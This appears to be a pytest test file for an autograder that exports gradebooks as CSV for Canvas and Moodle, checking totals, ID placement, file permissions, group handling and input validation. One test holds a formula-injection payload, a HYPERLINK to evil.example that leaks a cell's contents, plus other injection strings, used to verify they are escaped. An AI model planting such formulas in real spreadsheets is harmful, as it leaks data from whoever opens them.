"""Everybody's points, in files that people and platforms read without harm."""

import csv
import json

import pytest

from autograder.errors import UsageError
from autograder.gradebook import rows_of, write_gradebook
from autograder.gradebook.cells import harmless, number, table_text
from autograder.results import UNREAD
from autograder.results.class_results import read_class

WRITTEN = {
    ("anna", "t1-why"): 1.0, ("anna", "t2-proof"): 2.25,
    ("ben", "t1-why"): 0.0,
    ("clara", "t1-why"): 1.0, ("clara", "t2-proof"): 1.0,
}  # fmt: skip


@pytest.fixture
def tables(assignment, tmp_path):
    """Write a gradebook and read its tables as any program would."""

    def tables(folder, written=WRITTEN, column="Homework 1 (77)", canvas_id="sis"):
        rows = rows_of(assignment, read_class(folder), written)
        files = write_gradebook(assignment, rows, tmp_path / "book", column, canvas_id)
        found = {}
        for kind, file in files.items():
            with file.open(encoding="utf-8", newline="") as lines:
                found[kind] = list(csv.reader(lines))
        return found

    return tables


def columns(table, *names):
    places = [table[0].index(name) for name in names]
    return [[row[place] for place in places] for row in table[1:]]


def test_items_by_tests_and_by_hand_add_up(results, tables):
    table = tables(results)["items"]
    ids = ("student", "t1-square", "t1-row-sums", "t1-why", "t2-proof", "total", "out_of", "open")
    anna, ben, clara, dora = columns(table, *ids)
    assert anna == ["anna", "2", "1.25", "1", "2.25", "6.5", "7.5", ""]
    assert ben == ["ben", "0", "2", "0", "", "", "7.5", "waits for a person: t2-proof"]
    assert clara == ["clara", "", "2", "1", "1", "", "7.5", "the grader failed: t1-square"]
    assert dora[:6] == ["dora", "", "0.5", "", "", ""]
    assert dora[-1] == "not selected for grading: t1-square; waits for a person: t1-why t2-proof"


def test_problems_add_up_as_far_as_they_are_known(results, tables):
    table = tables(results)["problems"]
    assert columns(table, "student", "t1", "t2", "total") == [
        ["anna", "4.25", "2.25", "6.5"],
        ["ben", "2", "", ""],
        ["clara", "", "1", ""],
        ["dora", "", "", ""],
    ]


def test_platforms_get_whole_grades_only(results, tables):
    """An empty cell deletes a grade in Canvas and in Moodle; who is not there keeps theirs."""
    found = tables(results)
    assert found["canvas"] == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 1 (77)"],
        ["    Points Possible", "", "", "", "", "7.5"],
        ["anna", "", "anna", "", "", "6.5"],
    ]
    assert found["moodle"] == [
        ["ID number", "Full name", "Email address", "Homework 1 (77)"],
        ["anna", "anna", "", "6.5"],
    ]


@pytest.mark.parametrize(("canvas_id", "place"), [("canvas", 1), ("sis", 2), ("login", 3)])
def test_canvas_gets_the_id_where_it_belongs_and_nowhere_else(results, tables, canvas_id, place):
    row = tables(results, canvas_id=canvas_id)["canvas"][2]
    assert [index for index, cell in enumerate(row[1:5], 1) if cell] == [place]


def test_a_gradebook_is_for_its_owner_only(results, tables, tmp_path):
    """Student code that runs later, under another user id, must not read it."""
    tables(results)
    files = list((tmp_path / "book").iterdir())
    assert len(files) == 4
    assert all(file.stat().st_mode & 0o777 == 0o600 for file in files)


def test_students_are_named_by_the_platform(results, write_students, tables):
    write_students(
        {"student": "n123", "name": "Anna Ärmel", "email": "a@x.edu", "submission": "anna",
         "group": [], "submitted_at": "2026-11-01T12:00:00+00:00", "late": True,
         "superseded": ["ben"]},
    )  # fmt: skip
    written = {("n123", item): 1.0 for item in ("t1-why", "t2-proof")}
    found = tables(results, written)
    known = columns(found["items"], "student", "name", "email", "submission", "late", "total")
    assert known[0] == ["n123", "Anna Ärmel", "a@x.edu", "anna", "yes", "5.25"]
    assert [row[0] for row in known] == ["n123", "clara", "dora"], "ben's was superseded"
    assert found["moodle"][1:] == [["n123", "Anna Ärmel", "a@x.edu", "5.25"]]


def test_a_group_shares_what_it_handed_in(results, write_students, tables):
    write_students(
        *({"student": name, "name": name, "submission": "ben", "group": ["x", "y"]}
          for name in ("x", "y")),
        {"student": "z", "name": "Z", "submission": None},
    )  # fmt: skip
    rows = columns(tables(results)["items"], "student", "t1-row-sums", "open")
    assert rows[:2] == [[name, "2", "waits for a person: t1-why t2-proof"] for name in ("x", "y")]
    assert rows[2] == [
        "z", "", "nothing was handed in: t1-square t1-row-sums t1-why t2-proof"
    ]  # fmt: skip


def test_an_earlier_submission_still_counts_for_a_partner(results, write_students, tables):
    """x has handed in alone after x and y had handed in together."""
    write_students(
        {"student": "x", "submission": "anna", "group": [], "superseded": ["ben"]},
        {"student": "y", "submission": "ben", "group": ["x", "y"], "superseded": []},
    )
    rows = columns(tables(results)["items"], "student", "submission")
    assert rows == [["x", "anna"], ["y", "ben"], ["clara", "clara"], ["dora", "dora"]]


def test_what_students_call_themselves_is_no_formula(results, write_students, tables):
    hostile = '=HYPERLINK("http://evil.example?"&A1,"grade")'
    write_students({"student": "+1", "name": hostile, "email": "@SUM(A1)", "submission": "anna"})
    found = tables(results, {("+1", item): 1.0 for item in ("t1-why", "t2-proof")})
    for kind, table in found.items():
        for row in table:
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "-", "@")), (kind, cell)
    assert found["canvas"][2][0] == "'" + hostile


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("a;=1", "a;'=1"),
        ('a","=1', 'a","\'=1'),
        ("a\n-1", "a\n'-1"),
    ],
)
def test_a_cell_that_could_act_becomes_text(cell, safe):
    assert harmless(cell) == safe


@pytest.mark.parametrize("cell", ["", "Anna", "Meyer-Schmidt", "a@x.edu", "2.5", "1=1", "a - b"])
def test_other_cells_stay_as_they_are(cell):
    assert harmless(cell) == cell


def test_numbers_are_read_by_every_program():
    assert [number(points) for points in (0.0, 2.5, 3.0, 0.1 + 0.2, 10.0, None)] == [
        "0", "2.5", "3", "0.3", "10", ""
    ]  # fmt: skip
    assert table_text([["a", 'b "c"'], ["d,e", "f\ng"]]) == 'a,"b ""c"""\r\n"d,e","f\ng"\r\n'


def test_results_of_another_assignment_are_refused(results, tiny):
    with pytest.raises(UsageError, match="has an item 't2-proof', which 'tiny' does not have"):
        rows_of(tiny, read_class(results), {})


def test_points_that_have_changed_since_are_refused(results, assignment):
    from dataclasses import replace

    items = (replace(assignment.items[0], points=3.0), *assignment.items[1:])
    with pytest.raises(UsageError, match="was worth 2 points when 'anna' was graded, and is worth"):
        rows_of(replace(assignment, items=items), read_class(results), {})


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{", "cannot be read as a list of students"),
        ('{"schema": "x", "students": []}', "its schema is not autograder.students/1"),
        ('{"schema": "autograder.students/1"}', "students"),
        ('{"schema": "autograder.students/1", "students": [{"name": "x"}]}', "student"),
        ('{"schema": "autograder.students/1", "students": [{"student": ""}]}', "empty id"),
        (
            '{"schema": "autograder.students/1", "students": [{"student": ["a"]}]}',
            "expected a text",
        ),
        ('{"schema": "autograder.students/1", "students": [3]}', "list of students"),
        (
            '{"schema": "autograder.students/1", "students": [{"student": "a"}, {"student": "a"}]}',
            "two students have the id 'a'",
        ),
    ],
)
def test_a_list_of_students_that_is_none_is_refused(results, text, words):
    (results / "students.json").write_text(text)
    with pytest.raises(UsageError, match=words):
        read_class(results)


def test_a_damaged_record_is_named(results):
    (results / "ben" / "record.json").write_text("{")
    with pytest.raises(UsageError, match=r"cannot be read as a record .*ben/record\.json"):
        read_class(results)


def test_results_without_a_record_are_named_and_not_left_out(results):
    (results / "ben" / "record.json").unlink()
    with pytest.raises(UsageError, match=r"no record\.json; .*ben; it was graded by an older"):
        read_class(results)
    (results / "anna" / "record.json").unlink()
    with pytest.raises(UsageError, match=r"anna, and 1 more like it"):
        read_class(results)


def test_a_folder_without_results_is_refused(tmp_path):
    with pytest.raises(UsageError, match="no graded submissions were found"):
        read_class(tmp_path)


def test_what_could_not_be_read_is_told_from_what_was_not_handed_in(
    results, grade_by_hand, write_students, tables, tmp_path
):
    grade_by_hand("emil", {"t1-square": "failed", "t1-row-sums": "failed"})
    record = tmp_path / "emil" / "record.json"
    document = json.loads(record.read_text())
    document["notices"] = [UNREAD]
    for item in document["items"]:
        item["message"] = "The zip is damaged or was cut off."
    record.write_text(json.dumps(document))
    write_students(
        {"student": "e", "submission": "emil"},
        {"student": "t", "submission": None, "why": "a text was handed in"},
        {"student": "n", "submission": None},
    )
    found = tables(results)
    rows = {
        row[0]: row[1:] for row in columns(found["items"], "student", "t1-square", "total", "open")
    }
    everything = "t1-square t1-row-sums t1-why t2-proof"
    assert rows["e"] == [
        "", "", f"could not be read (The zip is damaged or was cut off): {everything}"
    ]  # fmt: skip
    assert rows["t"] == ["", "", f"could not be read (a text was handed in): {everything}"]
    assert rows["n"] == ["", "", f"nothing was handed in: {everything}"]
    assert not [row for row in found["canvas"] if row[0] in ("e", "t", "n")]
